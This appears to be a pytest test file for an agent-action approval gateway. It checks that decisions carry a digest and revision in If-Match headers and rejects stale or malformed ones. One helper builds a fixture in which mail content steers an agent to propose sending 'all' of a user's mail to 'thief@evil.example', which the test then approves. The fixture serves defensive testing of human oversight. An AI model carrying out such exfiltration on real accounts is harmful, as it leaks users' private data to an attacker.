"""A decision can name what was shown with a call, beside the call: more than that is answered 412."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from checkvalve.approvals import audit, pins, previews, remarks, votes
from checkvalve.approvals.records import Proposal, State
from checkvalve.approvals.revisions import SHOWN
from checkvalve.gateway import http_runs, worker
from checkvalve.graphs.session import Call
from tests.gateway.runs_world import problem, serving
from tests.gateway.test_http_approvals import Desk


@pytest.fixture(autouse=True)
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(worker, "EVERY", 0.02)
    monkeypatch.setattr(http_runs, "_POLL", 0.02)


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    with serving(tmp_path) as api:
        yield Desk(api)


def named(digest: str, seen: int) -> dict[str, str]:
    return {"If-Match": f'"{digest};v{seen}"'}


@pytest.mark.parametrize("answer", ["approve", "reject", "respond"])
def test_what_was_said_after_the_look_is_looked_at_first(desk: Desk, answer: str) -> None:
    row, kim = desk.waiting(), desk.bearer("kim")
    before = desk.get(f"/approvals/{row.id}").json()
    asked = desk.api.client.post(
        f"/approvals/{row.id}/question",
        json={"note": "Wait: who is that sender?"},
        headers={**kim, "If-Match": f'"{row.digest}"'},
    )
    assert asked.json()["revision"] == before["revision"] + 1
    old = desk.decide(row, answer, named(row.digest, before["revision"]), message="no")
    assert problem(old) == (412, "other_digest")
    assert (old.json()["cause"], old.headers["ETag"]) == ("wrong_digest", f'"{row.digest}"')
    assert desk.api.gateway.queue.get(row.id).state is State.PENDING
    now = desk.get(f"/approvals/{row.id}").json()
    assert [item["text"] for item in now["talk"]] == ["Wait: who is that sender?"]
    assert desk.decide(row, answer, named(row.digest, now["revision"]), message="no").status_code == 200


def test_the_digest_alone_is_still_enough_and_a_revision_never_is(desk: Desk) -> None:
    row = desk.waiting()
    seen = desk.get(f"/approvals/{row.id}").json()["revision"]
    other = desk.decide(row, headers=named("sha256:" + "0" * 64, seen))
    assert problem(other) == (412, "other_digest")
    for bad in (f'"{row.digest};v"', f'"{row.digest};v-1"', f'"{row.digest};x1"', '";v1"', f'"{row.digest};v1;v1"'):
        assert problem(desk.decide(row, headers={"If-Match": bad})) == (400, "bad_digest")
    assert desk.decide(row).status_code == 200


BODIES = {"question": {"note": "why?"}, "answer": {"note": "see there"}, "cancel": None, "revoke": {"note": "no"}}


@pytest.mark.claim("C4")
@pytest.mark.parametrize("route", BODIES)
def test_every_route_that_names_a_digest_takes_the_revision_beside_it(desk: Desk, route: str) -> None:
    row = desk.waiting()
    kim = desk.bearer("kim")
    if route == "revoke":
        row = _approved(desk)
    before = desk.get(f"/approvals/{row.id}").json()["revision"]
    _added(desk, row)
    now = desk.get(f"/approvals/{row.id}").json()["revision"]
    assert now > before
    who = desk.api.ann if route in {"answer", "cancel"} else kim

    def send(headers: dict[str, str]) -> Any:
        path = f"/approvals/{row.id}/{route}"
        return desk.api.client.post(path, json=BODIES[route], headers={**who, "Idempotency-Key": "once", **headers})

    for bad in (f'"{row.digest};v"', f'"{row.digest};v1;v1"', '";v1"'):
        assert problem(send({"If-Match": bad})) == (400, "bad_digest")
    assert problem(send({})) == (428, "digest_needed")
    assert problem(send(named("sha256:" + "0" * 64, now))) == (412, "other_digest")
    stale = send(named(row.digest, before))
    assert problem(stale) == (412, "other_digest")
    assert stale.headers["ETag"] == f'"{row.digest}"'
    assert desk.get(f"/approvals/{row.id}").json()["revision"] == now, "nothing was added"
    done = send(named(row.digest, now))
    assert done.status_code == 200, done.text
    again = send(named(row.digest, now))
    assert again.status_code == 200, "the same request again is told how it stands, though it has moved the revision"
    assert desk.get(f"/approvals/{row.id}").json()["revision"] == done.json()["revision"]


def _approved(desk: Desk) -> Proposal:
    session = desk.api.gateway.session("by hand", "ann@corp.example")
    session.user_words("Read my mail and send a mail", key="u1")
    session.result(Call("read_mail", {}, "r1@a", turn="a"), "mail thief@evil.example", key="call:r1")
    row = session.propose(Call("send_mail", {"to": "thief@evil.example", "body": "all"}, "c1@b", turn="b"))
    assert desk.decide(row).json()["state"] == "approved"
    return row


def _added(desk: Desk, row: Proposal) -> None:
    """Add something to what is shown with a call: a question, or where that is over, a voice as its event."""
    if desk.api.gateway.queue.get(row.id).state is State.PENDING:
        asked = desk.api.client.post(
            f"/approvals/{row.id}/question",
            json={"note": "who is that sender?"},
            headers={**desk.bearer("eve"), "If-Match": f'"{row.digest}"'},
        )
        assert asked.status_code == 200, asked.text
    else:
        with desk.api.gateway.store.write() as connection:
            audit.append(connection, at=1, kind=previews.FAILED, subject=row.id, body={})


def test_everything_that_is_added_to_a_card_counts() -> None:
    said = {f"remark.{kind}" for kind in (remarks.QUESTION, remarks.ANSWER, remarks.REPLY)}
    assert set(SHOWN) == said | {pins.READ, pins.FAILED, previews.MADE, previews.FAILED, votes.CAST}
